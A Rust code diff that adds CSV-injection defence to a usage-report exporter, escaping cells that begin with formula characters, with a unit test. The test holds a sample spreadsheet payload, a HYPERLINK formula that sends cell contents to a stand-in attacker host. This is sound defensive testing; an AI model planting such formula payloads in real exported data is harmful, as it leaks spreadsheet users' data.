@@ -500,7 +500,24 @@ fn day_of(ms: i64) -> NaiveDate {
     Local.timestamp_millis_opt(ms).earliest().map_or_else(|| Local::now().date_naive(), |t| t.date_naive())
 }
 
-/// The report as CSV, with the same columns as its JSON rows.
+/// One CSV cell, safe to open in a spreadsheet. Group keys carry text from outside (a model name
+/// from the imported usage CSV, a project's folder), and a spreadsheet runs a cell that starts
+/// with `=`, `+`, `-`, `@`, a tab or a carriage return as a formula (`=HYPERLINK(…)` sends the
+/// reader's data away). As OWASP recommends for CSV injection, such a cell gets a leading `'`
+/// (shown as text, not evaluated) and is quoted; a cell holding a comma, quote or line end is
+/// quoted with its quotes doubled.
+pub fn csv_cell(c: &str) -> Cow<'_, str> {
+    let formula = c.starts_with(['=', '+', '-', '@', '\t', '\r']);
+    if formula {
+        Cow::Owned(format!("\"'{}\"", c.replace('"', "\"\"")))
+    } else if c.contains([',', '"', '\n', '\r']) {
+        Cow::Owned(format!("\"{}\"", c.replace('"', "\"\"")))
+    } else {
+        Cow::Borrowed(c)
+    }
+}
+
+/// The report as CSV, with the same columns as its JSON rows; every cell through [`csv_cell`].
 pub fn to_csv(r: &UsageReport) -> String {
     let mut out = String::from("source");
     for d in &r.by {
@@ -529,10 +546,7 @@ pub fn to_csv(r: &UsageReport) -> String {
         cells.push(row.cost_estimated.to_string());
         cells.push(row.unpriced_tokens.to_string());
         cells.push(row.matched_by_time.to_string());
-        let quoted: Vec<String> = cells
-            .into_iter()
-            .map(|c| if c.contains([',', '"', '\n']) { format!("\"{}\"", c.replace('"', "\"\"")) } else { c })
-            .collect();
+        let quoted: Vec<Cow<'_, str>> = cells.iter().map(|c| csv_cell(c)).collect();
         out.push_str(&quoted.join(","));
         out.push('\n');
     }
@@ -594,6 +608,44 @@ mod tests {
         assert_eq!(num(event(450, None)), None, "nothing was going");
         assert_eq!(num(event(9_500, None)), None, "R-3 and the running R-5 both were");
         assert_eq!(num(event(20_000, None)), Some(5), "only the run still going");
+    }
+
+    #[test]
+    fn csv_cells_that_a_spreadsheet_would_run_are_given_back_as_text() {
+        let keys = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "+1", "-2", "@SUM(A1)", "\tx", "\rx", "gpt-5", "a,b"];
+        let r = UsageReport {
+            from: "2026-03-01".into(),
+            to: "2026-03-01".into(),
+            by: vec![Dim::Model],
+            rows: keys
+                .iter()
+                .map(|k| UsageRow { source: "account".into(), keys: vec![(*k).into()], ..Default::default() })
+                .collect(),
+            totals: vec![],
+            coverage: UsageCoverage::default(),
+            prices_as_of: String::new(),
+            prices_source: String::new(),
+        };
+        let csv = to_csv(&r);
+        let mut rdr = csv::ReaderBuilder::new().from_reader(csv.as_bytes());
+        let models: Vec<String> = rdr.records().map(|r| r.unwrap()[1].to_owned()).collect();
+        assert_eq!(
+            models,
+            [
+                "'=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")",
+                "'+1",
+                "'-2",
+                "'@SUM(A1)",
+                "'\tx",
+                "'\rx",
+                "gpt-5",
+                "a,b"
+            ],
+            "{csv}"
+        );
+        for line in csv.lines().skip(1).take(6) {
+            assert!(line.starts_with("account,\"'"), "a neutralised cell is quoted: {line:?}");
+        }
     }
 
     #[test]
